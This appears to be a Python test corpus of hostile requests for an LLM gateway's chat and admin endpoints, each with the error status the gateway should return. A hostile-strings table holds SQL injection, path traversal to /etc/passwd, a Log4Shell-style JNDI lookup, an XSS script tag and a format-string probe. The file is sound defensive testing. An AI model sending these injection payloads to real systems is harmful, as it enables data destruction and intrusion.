"""A corpus of hostile requests: each with the status the gateway must answer.

Every error answer must be OpenAI's error object; none may be a 5xx. `{tenant}` in a path is
replaced by an existing tenant's id. Bodies are raw bytes, sent as they are.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from urllib.parse import quote

import orjson

MODEL = "openai/gpt-oss-120b"
# The corpus gateway's body limit (SWITCHYARD_MAX_BODY_BYTES): deep bodies fit, oversized ones do not.
BODY_LIMIT = 1 << 20
HI = [{"role": "user", "content": "hi"}]
JSON = {"content-type": "application/json"}


@dataclass(frozen=True)
class Case:
    id: str
    method: str
    path: str
    body: bytes | None = None
    status: int | tuple[int, ...] = 400
    code: str | None = None
    param: str | None = None
    auth: str = "tenant"  # tenant | admin | none
    headers: dict[str, str] = field(default_factory=lambda: dict(JSON))


def chat(**fields: object) -> bytes:
    return orjson.dumps({"model": MODEL, "messages": HI, **fields})


def _nest(depth: int, leaf: bytes = b"1") -> bytes:
    return b'{"a":' * depth + leaf + b"}" * depth


def _seg(text: str) -> str:
    return quote(text, safe="")


# Where a JSON body goes, and who may call it.
BODY_ENDPOINTS = [
    ("chat", "POST", "/v1/chat/completions", "tenant"),
    ("quote", "POST", "/v1/quote", "tenant"),
    ("tenant-create", "POST", "/admin/tenants", "admin"),
    ("tenant-patch", "PATCH", "/admin/tenants/{tenant}", "admin"),
    ("key-create", "POST", "/admin/tenants/{tenant}/keys", "admin"),
    ("budget-put", "PUT", "/admin/tenants/{tenant}/budgets", "admin"),
]

MALFORMED = {
    "unclosed-object": b"{",
    "missing-value": b'{"model":}',
    "single-quotes": b"{'model':'x'}",
    "trailing-comma": b'{"a":1,}',
    "control-bytes": b"\x00\x01",
    "bom": b"\xef\xbb\xbf{}",
    "trailing-garbage": b'{"a":1} x',
    "comment": b"// c\n{}",
    "bad-escape": b'{"a":"\\x41"}',
    "bad-literal": b'{"a":tru}',
    "unclosed-array": b"[",
    "two-documents": b"{}{}",
}

INVALID_UTF8 = {
    "invalid-bytes": b'{"name":"\xff\xfe"}',
    "truncated-sequence": b'{"name":"\xc3"}',
    "encoded-surrogate": b'{"name":"\xed\xa0\x80"}',
    "escaped-lone-surrogate": b'{"name":"\\ud800"}',
}


def _malformed() -> list[Case]:
    cases = []
    for name, method, path, auth in BODY_ENDPOINTS:
        for kind, raw in MALFORMED.items():
            cases.append(Case(f"malformed-{kind}-{name}", method, path, raw, 400, "invalid_json", auth=auth))
        for kind, raw in INVALID_UTF8.items():
            cases.append(Case(f"utf8-{kind}-{name}", method, path, raw, 400, "invalid_json", auth=auth))
    return cases


def _deep() -> list[Case]:
    """Nesting past 64 levels, where recursive code (validation, re-encoding upstream) would meet it."""
    cases = []
    for depth in (65, 300, 600, 1100, 100_000):
        inner = _nest(depth)
        cases += [
            Case(f"deep-{depth}-top-level-array", "POST", "/v1/chat/completions", b"[" * depth + b"]" * depth,
                 400, "invalid_json"),
            Case(f"deep-{depth}-tool-parameters", "POST", "/v1/chat/completions",
                 b'{"model":"%s","messages":[{"role":"user","content":"hi"}],"tools":[{"type":"function",'
                 b'"function":{"name":"f","parameters":%s}}]}' % (MODEL.encode(), inner), 400, "invalid_json"),
            Case(f"deep-{depth}-json-schema", "POST", "/v1/chat/completions",
                 b'{"model":"%s","messages":[{"role":"user","content":"hi"}],"response_format":{"type":'
                 b'"json_schema","json_schema":{"name":"n","schema":%s}}}' % (MODEL.encode(), inner),
                 400, "invalid_json"),
            Case(f"deep-{depth}-quote-template-args", "POST", "/v1/quote",
                 b'{"model":"%s","messages":[{"role":"user","content":"hi"}],"chat_template_args":%s}'
                 % (MODEL.encode(), inner), 400, "invalid_json"),
            Case(f"deep-{depth}-admin-body", "POST", "/admin/tenants",
                 b'{"name":"deep","allowed_models":%s}' % inner, 400, "invalid_json", auth="admin"),
        ]
    return cases


def _content_types() -> list[Case]:
    cases = []
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                 "application/xml", "image/png"):
        for name, method, path, auth in BODY_ENDPOINTS[:3]:
            body = chat() if auth == "tenant" else b'{"name":"x"}'
            cases.append(Case(f"content-type-{kind.split(';')[0].replace('/', '-')}-{name}", method, path, body,
                              415, "unsupported_media_type", auth=auth, headers={"content-type": kind}))
    return cases


def _sizes() -> list[Case]:
    over = BODY_LIMIT + 100_000
    big = chat(messages=[{"role": "user", "content": "x" * over}])
    big_admin = orjson.dumps({"name": "x" * over})
    pad = {"x-padding": "p" * 40_000, **JSON}
    return [
        Case("body-over-limit-chat", "POST", "/v1/chat/completions", big, 413, "payload_too_large"),
        Case("body-over-limit-quote", "POST", "/v1/quote", big, 413, "payload_too_large"),
        Case("body-over-limit-admin", "POST", "/admin/tenants", big_admin, 413, "payload_too_large", auth="admin"),
        Case("headers-40kb-chat", "POST", "/v1/chat/completions", chat(), 431, "headers_too_large", headers=pad),
        Case("headers-40kb-admin", "GET", "/admin/tenants", None, 431, "headers_too_large", auth="admin",
             headers=pad),
        Case("headers-40kb-health", "GET", "/healthz", None, 431, "headers_too_large", auth="none", headers=pad),
        Case("headers-40kb-unknown-path", "GET", "/nowhere", None, 431, "headers_too_large", headers=pad),
        Case("empty-body-chat", "POST", "/v1/chat/completions", b"", 400, "invalid_json"),
        Case("empty-body-tenant", "POST", "/admin/tenants", b"", 400, "invalid_json", auth="admin"),
    ]


def _numbers() -> list[Case]:
    def raw_chat(field_: str, literal: bytes) -> bytes:
        return b'{"model":"%s","messages":[{"role":"user","content":"hi"}],"%s":%s}' % (
            MODEL.encode(), field_.encode(), literal)

    return [
        Case("temperature-1e400", "POST", "/v1/chat/completions", raw_chat("temperature", b"1e400"), 400,
             "invalid_json"),
        Case("temperature-minus-1e400", "POST", "/v1/chat/completions", raw_chat("temperature", b"-1e400"), 400,
             "invalid_json"),
        Case("temperature-nan", "POST", "/v1/chat/completions", raw_chat("temperature", b"NaN"), 400, "invalid_json"),
        Case("temperature-infinity", "POST", "/v1/chat/completions", raw_chat("temperature", b"Infinity"), 400,
             "invalid_json"),
        Case("temperature-1e308", "POST", "/v1/chat/completions", raw_chat("temperature", b"1e308"), 400,
             "invalid_value", "temperature"),
        # Past 64 bits orjson reads an integer as a float, which no longer says which integer it was,
        # but still that it is a whole number outside the parameter's range.
        Case("max-tokens-1e30", "POST", "/v1/chat/completions", raw_chat("max_tokens", b"1" + b"0" * 30), 400,
             "invalid_value", "max_tokens"),
        Case("max-tokens-minus-1e30", "POST", "/v1/chat/completions", raw_chat("max_tokens", b"-1" + b"0" * 30),
             400, "invalid_value", "max_tokens"),
        Case("max-tokens-whole-float", "POST", "/v1/chat/completions",
             raw_chat("max_tokens", b'16.0,"provider":{"only":["baseten"]}'), 200),
        Case("max-tokens-5000-digits", "POST", "/v1/chat/completions", raw_chat("max_tokens", b"9" * 5000),
             400, None),
        Case("seed-above-int64", "POST", "/v1/chat/completions", raw_chat("seed", b"18446744073709551615"), 400,
             "invalid_value", "seed"),
        Case("top-p-underflow", "POST", "/v1/chat/completions", raw_chat("top_p", b"1e-400"), 400,
             "invalid_value", "top_p"),
        Case("max-cost-1e-320", "POST", "/v1/quote",
             chat(provider={"max_cost_usd": 1e-320}), 200, None),
        Case("markup-1e400", "POST", "/admin/tenants", b'{"name":"m1","markup":1e400}', 400, "invalid_json",
             auth="admin"),
        Case("markup-1e30", "POST", "/admin/tenants", b'{"name":"m2","markup":1' + b"0" * 30 + b"}", 400,
             "invalid_value", "markup", auth="admin"),
        Case("markup-exponent-string", "POST", "/admin/tenants", b'{"name":"m3","markup":"1e999999999"}', 400,
             "invalid_value", "markup", auth="admin"),
        Case("markup-long-digits", "POST", "/admin/tenants", b'{"name":"m4","markup":"0.' + b"1" * 5000 + b'"}',
             400, "invalid_value", "markup", auth="admin"),
        Case("limit-usd-nan-string", "PUT", "/admin/tenants/{tenant}/budgets",
             b'{"period":"day","limit_usd":"NaN"}', 400, "invalid_value", "limit_usd", auth="admin"),
        Case("limit-usd-infinity-string", "PUT", "/admin/tenants/{tenant}/budgets",
             b'{"period":"day","limit_usd":"Infinity"}', 400, "invalid_value", "limit_usd", auth="admin"),
        Case("rpm-limit-1e20", "POST", "/admin/tenants/{tenant}/keys", b'{"rpm_limit":100000000000000000000}',
             400, "invalid_value", "rpm_limit", auth="admin"),
        Case("rpm-limit-fraction", "POST", "/admin/tenants/{tenant}/keys", b'{"rpm_limit":1.5}', 400,
             "invalid_value", "rpm_limit", auth="admin"),
    ]


def _types_and_unknown_fields() -> list[Case]:
    def admin(case_id: str, method: str, path: str, body: object, param: str | None,
              code: str | None = None) -> Case:
        return Case(case_id, method, path, orjson.dumps(body), 400, code, param, auth="admin")

    return [
        Case("chat-unknown-field", "POST", "/v1/chat/completions", chat(frobnicate=1), 400, "unknown_parameter",
             "frobnicate"),
        Case("chat-unknown-nested", "POST", "/v1/chat/completions",
             chat(messages=[{"role": "user", "content": "hi", "mood": "x"}]), 400, "unknown_parameter",
             "messages[0].mood"),
        Case("chat-unknown-provider-key", "POST", "/v1/chat/completions", chat(provider={"speed": "max"}), 400,
             "unknown_parameter", "provider.speed"),
        Case("chat-unknown-function-key", "POST", "/v1/chat/completions",
             chat(tools=[{"type": "function", "function": {"name": "f", "returns": {}}}]), 400,
             "unknown_parameter", "tools[0].function.returns"),
        Case("chat-huge-unknown-key", "POST", "/v1/chat/completions", chat(**{"k" * 100_000: 1}), 400,
             "unknown_parameter"),
        Case("chat-model-int", "POST", "/v1/chat/completions", chat(model=5), 400, "invalid_type", "model"),
        Case("chat-messages-object", "POST", "/v1/chat/completions", chat(messages={"role": "user"}), 400,
             "invalid_type", "messages"),
        Case("chat-stream-string", "POST", "/v1/chat/completions", chat(stream="yes"), 400, "invalid_type",
             "stream"),
        Case("chat-stop-number", "POST", "/v1/chat/completions", chat(stop=5), 400, "invalid_type", "stop"),
        Case("chat-temperature-string", "POST", "/v1/chat/completions", chat(temperature="hot"), 400,
             "invalid_type", "temperature"),
        Case("chat-tools-string", "POST", "/v1/chat/completions", chat(tools="all"), 400, "invalid_type", "tools"),
        Case("chat-reasoning-list", "POST", "/v1/chat/completions", chat(reasoning=["high"]), 400, "invalid_type",
             "reasoning"),
        Case("quote-body-array", "POST", "/v1/quote", b"[]", 400, "invalid_type"),
        admin("tenant-unknown-field", "POST", "/admin/tenants", {"name": "u1", "owner": "x"}, "owner",
              "unknown_parameter"),
        admin("tenant-name-int", "POST", "/admin/tenants", {"name": 5}, "name"),
        admin("tenant-name-spaces", "POST", "/admin/tenants", {"name": " padded "}, "name"),
        admin("tenant-markup-list", "POST", "/admin/tenants", {"name": "u2", "markup": [1]}, "markup"),
        admin("tenant-allowed-models-string", "POST", "/admin/tenants", {"name": "u3", "allowed_models": "all"},
              "allowed_models"),
        admin("tenant-denied-front-ends-ints", "POST", "/admin/tenants", {"name": "u4", "denied_front_ends": [1]},
              "denied_front_ends"),
        admin("tenant-status-unknown", "PATCH", "/admin/tenants/{tenant}", {"status": "paused"}, "status"),
        admin("tenant-body-array", "POST", "/admin/tenants", [], None, "invalid_json"),
        admin("budget-period-year", "PUT", "/admin/tenants/{tenant}/budgets", {"period": "year", "limit_usd": 1},
              "period"),
        admin("budget-hard-string", "PUT", "/admin/tenants/{tenant}/budgets",
              {"period": "day", "limit_usd": 1, "hard": "yes"}, "hard"),
        admin("budget-missing-limit", "PUT", "/admin/tenants/{tenant}/budgets", {"period": "day"}, "limit_usd",
              "missing_required_parameter"),
        admin("key-rpm-string", "POST", "/admin/tenants/{tenant}/keys", {"rpm_limit": "5"}, "rpm_limit"),
        admin("key-name-int", "POST", "/admin/tenants/{tenant}/keys", {"name": 5}, "name"),
        admin("key-unknown-field", "POST", "/admin/tenants/{tenant}/keys", {"scopes": ["all"]}, "scopes",
              "unknown_parameter"),
    ]


def _nul() -> list[Case]:
    """NUL reaches no query: Postgres refuses it in text, so it is a 400 naming the field."""
    def admin(case_id: str, method: str, path: str, body: object | None, param: str | None) -> Case:
        raw = None if body is None else orjson.dumps(body)
        return Case(case_id, method, path, raw, 400, "invalid_value", param, auth="admin")

    nul = _seg("a\x00b")
    return [
        Case("nul-chat-model", "POST", "/v1/chat/completions", chat(model="openai/gpt\x00oss"), 400,
             "invalid_value", "model"),
        Case("nul-chat-user", "POST", "/v1/chat/completions", chat(user="u\x00"), 400, "invalid_value", "user"),
        Case("nul-chat-metadata-value", "POST", "/v1/chat/completions", chat(metadata={"k": "v\x00"}), 400,
             "invalid_value", "metadata.k"),
        Case("nul-chat-metadata-key", "POST", "/v1/chat/completions", chat(metadata={"k\x00": "v"}), 400,
             "invalid_value", "metadata"),
        Case("nul-quote-model", "POST", "/v1/quote", chat(model="\x00"), 400, "invalid_value", "model"),
        Case("nul-in-a-prompt-is-served", "POST", "/v1/chat/completions",
             chat(messages=[{"role": "user", "content": "a\x00b"}], provider={"only": ["baseten"]}), 200),
        admin("nul-tenant-name", "POST", "/admin/tenants", {"name": "a\x00b"}, "name"),
        admin("nul-tenant-rename", "PATCH", "/admin/tenants/{tenant}", {"name": "a\x00b"}, "name"),
        admin("nul-key-name", "POST", "/admin/tenants/{tenant}/keys", {"name": "k\x00"}, "name"),
        admin("nul-budget-key-id", "PUT", "/admin/tenants/{tenant}/budgets",
              {"period": "day", "limit_usd": "1", "key_id": "\x00"}, "key_id"),
        admin("nul-path-tenant-get", "GET", f"/admin/tenants/{nul}", None, "tenant"),
        admin("nul-path-tenant-patch", "PATCH", f"/admin/tenants/{nul}", {"status": "active"}, "tenant"),
        admin("nul-path-tenant-keys", "GET", f"/admin/tenants/{nul}/keys", None, "tenant"),
        admin("nul-path-tenant-key-create", "POST", f"/admin/tenants/{nul}/keys", {}, "tenant"),
        admin("nul-path-tenant-budgets", "GET", f"/admin/tenants/{nul}/budgets", None, "tenant"),
        admin("nul-path-tenant-budget-put", "PUT", f"/admin/tenants/{nul}/budgets",
              {"period": "day", "limit_usd": "1"}, "tenant"),
        admin("nul-path-key", "DELETE", f"/admin/keys/{nul}", None, "key"),
        admin("nul-path-budget", "DELETE", f"/admin/budgets/{nul}", None, "budget_id"),
        Case("nul-query-usage-from", "GET", "/v1/usage?from=" + nul, None, 400, "invalid_value", "from"),
        Case("nul-query-export-format", "GET", "/v1/usage/export?format=" + nul, None, 400, "invalid_value",
             "format"),
        Case("nul-query-billing-period", "GET", "/admin/billing/export?period=" + nul, None, 400, "invalid_value",
             "period", auth="admin"),
        Case("nul-query-admin-group-by", "GET", "/admin/usage?group_by=" + nul, None, 400, "invalid_value",
             "group_by", auth="admin"),
        Case("nul-path-model", "GET", "/v1/models/" + nul, None, 404, "model_not_found", "model"),
    ]


HOSTILE_STRINGS = {
    "sql-drop": "'; DROP TABLE tenants; --",
    "sql-or": "1' OR '1'='1",
    "sql-comment": "x\"/*",
    "traversal": "../../etc/passwd",
    "traversal-windows": "..\\..\\windows\\win.ini",
    "template": "${jndi:ldap://x/a}",
    "script": "<script>alert(1)</script>",
    "format-string": "%s%n%x%d",
}


def _hostile_strings() -> list[Case]:
    cases = []
    for kind, text in HOSTILE_STRINGS.items():
        seg = _seg(text)
        cases += [
            # A name is any text: stored as given, never interpreted.
            Case(f"{kind}-tenant-name", "POST", "/admin/tenants", orjson.dumps({"name": f"{text} {kind}"}), 201,
                 auth="admin"),
            Case(f"{kind}-key-name", "POST", "/admin/tenants/{tenant}/keys", orjson.dumps({"name": text}), 201,
                 auth="admin"),
            Case(f"{kind}-budget-key-id", "PUT", "/admin/tenants/{tenant}/budgets",
                 orjson.dumps({"period": "day", "limit_usd": "1", "key_id": text}), 400, "key_not_found", "key_id",
                 auth="admin"),
            Case(f"{kind}-allowed-models", "POST", "/admin/tenants",
                 orjson.dumps({"name": f"am-{kind}", "allowed_models": [text]}), 400, "model_not_found",
                 "allowed_models", auth="admin"),
            Case(f"{kind}-denied-front-ends", "PATCH", "/admin/tenants/{tenant}",
                 orjson.dumps({"denied_front_ends": [text]}), 400, "invalid_value", "denied_front_ends",
                 auth="admin"),
            Case(f"{kind}-path-tenant", "GET", f"/admin/tenants/{seg}", None, (404,), auth="admin"),
            Case(f"{kind}-path-key", "DELETE", f"/admin/keys/{seg}", None, (404,), auth="admin"),
            Case(f"{kind}-path-budget", "DELETE", f"/admin/budgets/{seg}", None, (400, 404), auth="admin"),
            Case(f"{kind}-query-period", "GET", f"/admin/billing/export?period={seg}", None, 400, "invalid_value",
                 "period", auth="admin"),
            Case(f"{kind}-chat-model", "POST", "/v1/chat/completions", chat(model=text), 404, "model_not_found",
                 "model"),
        ]
    return cases


def _query_ranges() -> list[Case]:
    def q(case_id: str, path: str, param: str, auth: str = "tenant") -> Case:
        return Case(case_id, "GET", path, None, 400, None, param, auth=auth)

    return [
        q("period-9999-12", "/admin/billing/export?period=9999-12", "period", "admin"),
        q("period-0000-01", "/admin/billing/export?period=0000-01", "period", "admin"),
        q("period-10000-01", "/admin/billing/export?period=10000-01", "period", "admin"),
        q("period-month-13", "/admin/billing/export?period=2024-13", "period", "admin"),
        q("period-short-month", "/admin/billing/export?period=2024-1", "period", "admin"),
        q("period-missing", "/admin/billing/export", "period", "admin"),
        q("usage-from-9999-12-31", "/v1/usage?from=9999-12-31", "from"),
        q("usage-to-0001-01-01", "/v1/usage?to=0001-01-01", "to"),
        q("usage-from-feb-30", "/v1/usage?from=2024-02-30", "from"),
        q("usage-from-empty", "/v1/usage?from=", "from"),
        q("usage-range-reversed", "/v1/usage?from=2024-03-01&to=2024-02-01", "to"),
        q("export-to-9999-12-31", "/v1/usage/export?to=9999-12-31", "to"),
        q("export-from-offset-past-9999", "/v1/usage/export?from=9999-12-31T23:00:00-05:00", "from"),
        q("export-from-offset-before-year-1", "/v1/usage/export?from=0001-01-01T00:00:00%2B05:00", "from"),
        q("export-format-xml", "/v1/usage/export?format=xml", "format"),
        q("export-range-too-long", "/v1/usage/export?from=2020-01-01&to=2024-01-01", "to"),
        q("admin-usage-group-by-unknown", "/admin/usage?group_by=tenant,price", "group_by", "admin"),
        q("admin-usage-from-huge", "/admin/usage?from=" + "9" * 200, "from", "admin"),
    ]


def _protocol() -> list[Case]:
    return [
        Case("method-put-chat", "PUT", "/v1/chat/completions", chat(), 405, "method_not_allowed"),
        Case("method-get-chat", "GET", "/v1/chat/completions", None, 405, "method_not_allowed"),
        Case("method-delete-models", "DELETE", "/v1/models", None, 405, "method_not_allowed"),
        Case("method-post-health", "POST", "/healthz", b"{}", 405, "method_not_allowed", auth="none"),
        Case("unknown-path", "GET", "/v2/chat/completions", None, 404, "not_found"),
        Case("long-unknown-path", "GET", "/" + "a" * 8000, None, 404, "not_found"),
        Case("admin-without-token", "GET", "/admin/tenants", None, 401, "missing_admin_token", auth="none"),
        Case("admin-with-tenant-key", "GET", "/admin/tenants", None, 401, "invalid_admin_token"),
        Case("chat-without-key", "POST", "/v1/chat/completions", chat(), 401, "missing_api_key", auth="none"),
        Case("chat-with-20kb-key", "POST", "/v1/chat/completions", chat(), 401, "invalid_api_key", auth="none",
             headers={**JSON, "authorization": "Bearer " + "k" * 20_000}),
        Case("chat-with-admin-token", "POST", "/v1/chat/completions", chat(), 401, "invalid_api_key",
             auth="admin"),
        Case("usage-without-key", "GET", "/v1/usage", None, 401, "missing_api_key", auth="none"),
        Case("options-admin-tenants", "OPTIONS", "/admin/tenants", None, 204, auth="none"),
        Case("options-unknown-path", "OPTIONS", "/nowhere", None, 404, "not_found", auth="none"),
    ]


def corpus() -> list[Case]:
    return (_malformed() + _deep() + _content_types() + _sizes() + _numbers() + _types_and_unknown_fields()
            + _nul() + _hostile_strings() + _query_ranges() + _protocol())
